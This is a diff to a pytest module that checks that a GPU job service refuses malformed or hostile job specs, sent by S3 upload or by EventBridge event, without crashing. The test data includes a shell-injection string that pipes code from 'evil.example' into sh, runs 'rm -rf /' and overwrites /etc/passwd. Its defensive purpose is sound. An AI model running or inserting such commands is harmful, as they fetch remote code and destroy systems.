@@ -1,7 +1,9 @@
 """Hostile submissions through both intake paths of the embedded account (S3 upload and the
 EventBridge `Job Submitted` event): each one is refused with a clear error (an error report next
 to the upload and a `Job Rejected` event) or accepted as valid; a refusal creates no job, and no
-exception escapes a handler. Shell syntax in a spec never reaches an instance's launch."""
+exception escapes a handler. Shell syntax in a spec never reaches an instance's launch. The
+module's account refuses, as AWS does, keys over 1024 bytes, PutEvents entries over 256 KiB and
+DynamoDB items over 400 KB (tests/limits.py)."""
 
 from __future__ import annotations
 
@@ -29,6 +31,7 @@ from gpufleet.topology import (
     TAG_JOB_ID,
 )
 from tests.helpers import jobs_from, wait_for
+from tests.limits import DYNAMODB_ITEM_LIMIT, AwsSizeLimits
 
 VALID: dict[str, Any] = {"name": "hostile", "team": "t", "image": "img:1", "command": ["x"]}
 HOSTILE = "$(curl evil.example | sh); rm -rf / `reboot` && echo pwned > /etc/passwd"
@@ -40,6 +43,8 @@ BILLION_LAUGHS = "\n".join(
     ]
 ).encode()
 MAX_S3_KEY_BYTES = 1024
+# A refusal's report, whatever the spec: it travels in an event and an idempotency record.
+MAX_REPORT_BYTES = 64 * 1024
 
 
 class LaunchRequests:
@@ -86,13 +91,19 @@ def reads() -> Reads:
     return Reads()
 
 
+@pytest.fixture(scope="module")
+def limits() -> AwsSizeLimits:
+    return AwsSizeLimits()
+
+
 @pytest.fixture(scope="module", autouse=True)
-def _hooks(launch_requests: LaunchRequests, reads: Reads) -> Iterator[None]:
+def _hooks(launch_requests: LaunchRequests, reads: Reads, limits: AwsSizeLimits) -> Iterator[None]:
     """Registered before the module's handlers create their clients (at their cold start)."""
     entries = [
         ("before-call.ec2.CreateFleet", launch_requests),
         ("before-parameter-build.s3.GetObject", reads),
         ("before-call.s3.PutObject", _s3_key_limit),
+        *limits.hooks(),
     ]
     botocore.handlers.BUILTIN_HANDLERS.extend(entries)
     yield
@@ -123,6 +134,16 @@ def no_handler_errors(account: Account) -> Iterator[None]:
 
 def _json(document: dict[str, Any]) -> bytes:
     return json.dumps(document).encode()
+
+
+def _control_characters_in_yaml(chars: int) -> bytes:
+    """A YAML spec whose env holds `chars` control characters, each written `\x01` (4 bytes):
+    stored as JSON, each takes 6 (`\u0001`)."""
+    lines = [
+        f'  V{index}: "' + "\\x01" * min(8000, chars - start) + '"'
+        for index, start in enumerate(range(0, chars, 8000))
+    ]
+    return ("name: x\nteam: t\nimage: i\ncommand: [x]\nenv:\n" + "\n".join(lines) + "\n").encode()
 
 
 UPLOADS = [
@@ -177,6 +198,31 @@ UPLOADS = [
         "1 invalid field",
         id="unicode-key-and-name",
     ),
+    pytest.param(
+        "jobs/overflow.yaml",
+        b"name: x\nteam: t\nimage: i\ncommand: [x]\ntimeout: 1" + b"0" * 400 + b"\n",
+        "1 invalid field",
+        id="duration-too-large-for-a-float",
+    ),
+    pytest.param("jobs/empty.yaml", b"", "empty", id="empty-object"),
+    pytest.param(
+        "jobs/long-tag.yaml",
+        b"name: x\nx: !" + b"t" * (MAX_SPEC_BYTES - 20) + b"\n",
+        "not valid",
+        id="yaml-error-quoting-the-document",
+    ),
+    pytest.param(
+        "jobs/escapes.yaml",
+        _control_characters_in_yaml(48_000),
+        "as stored",
+        id="stored-form-over-the-limit",
+    ),
+    pytest.param(
+        "jobs/named-like-a-report.error.json",
+        _json(VALID),
+        "error reports",
+        id="spec-named-like-a-report",
+    ),
 ]
 
 
@@ -200,9 +246,39 @@ def test_a_hostile_upload_is_refused_with_a_report_and_nothing_else(
     assert message in report["message"]
     assert report["source"] == source
     assert len(report["fields"]) <= MAX_REPORTED_FIELDS
+    assert len(json.dumps(report)) <= MAX_REPORT_BYTES
     [event] = rejections.of(source)
-    assert event["message"] == report["message"]
+    assert event == report
     assert jobs_from(store, source) == []
+
+
+@pytest.mark.usefixtures("no_handler_errors")
+def test_a_folder_marker_is_no_submission(
+    account: Account, store: DynamoJobStore, rejections: RejectionObserver
+) -> None:
+    """The S3 console's "Create folder": an empty object whose key ends in a slash."""
+    s3 = account.client("s3")
+    s3.put_object(Bucket=account.bucket, Key="jobs/new-folder/", Body=b"")
+    source = f"s3://{account.bucket}/jobs/new-folder/"
+    assert rejections.of(source) == [] and jobs_from(store, source) == []
+    listed = s3.list_objects_v2(Bucket=account.bucket, Prefix="jobs/new-folder/")
+    assert [o["Key"] for o in listed["Contents"]] == ["jobs/new-folder/"]
+
+
+@pytest.mark.usefixtures("no_handler_errors")
+def test_a_spec_of_emoji_under_the_limit_is_stored_whole(
+    account: Account, store: DynamoJobStore, limits: AwsSizeLimits
+) -> None:
+    """250 KB of UTF-8: escaped as ASCII (`\\ud83d\\ude80`, 12 bytes an emoji) it would pass
+    DynamoDB's item limit; stored as UTF-8 it fits."""
+    env = {f"E{i}": "🚀" * 8000 for i in range(7)}
+    body = json.dumps({**VALID, "name": "emoji", "env": env}, ensure_ascii=False).encode()
+    assert 200 * 1024 < len(body) < MAX_SPEC_BYTES
+    key = "jobs/emoji.json"
+    account.client("s3").put_object(Bucket=account.bucket, Key=key, Body=body)
+    [job] = jobs_from(store, f"s3://{account.bucket}/{key}")
+    assert job.spec.env == env
+    assert limits.refused == [] and limits.largest_item <= DYNAMODB_ITEM_LIMIT
 
 
 def test_a_big_upload_is_read_no_further_than_the_limit(account: Account, reads: Reads) -> None:
@@ -289,13 +365,23 @@ def test_a_hostile_event_is_refused_with_a_rejection_and_nothing_else(
 
 
 @pytest.mark.usefixtures("no_handler_errors")
-@pytest.mark.parametrize("detail", [[1, 2], "rm -rf /", None, 7], ids=str)
-def test_an_event_whose_detail_is_not_a_mapping_is_refused(
-    account: Account, store: DynamoJobStore, rejections: RejectionObserver, detail: Any
+@pytest.mark.parametrize(
+    ("detail", "message"),
+    [
+        ([1, 2], "mapping"),
+        ("rm -rf /", "mapping"),
+        (None, "mapping"),
+        (7, "mapping"),
+        ({**VALID, "timeout": 10**400}, "1 invalid field"),
+    ],
+    ids=["list", "string", "null", "number", "duration-too-large-for-a-float"],
+)
+def test_an_event_detail_eventbridge_would_not_carry_is_refused(
+    account: Account, store: DynamoJobStore, detail: Any, message: str
 ) -> None:
-    # EventBridge only carries objects as detail; the function is invoked directly, as a
-    # misbehaving caller with lambda:InvokeFunction could.
-    event_id = f"hostile-{json.dumps(detail)}"
+    # EventBridge only carries objects as detail, and integers within 64 bits; the function is
+    # invoked directly, as a misbehaving caller with lambda:InvokeFunction could.
+    event_id = f"hostile-{json.dumps(detail)[:100]}"
     event = {
         "version": "0",
         "id": event_id,
@@ -313,7 +399,7 @@ def test_an_event_whose_detail_is_not_a_mapping_is_refused(
     )
     assert "FunctionError" not in response
     result = json.loads(response["Payload"].read())
-    assert not result["accepted"] and "mapping" in result["error"]["message"]
+    assert not result["accepted"] and message in result["error"]["message"]
     assert jobs_from(store, f"event:{event_id}") == []
 
 
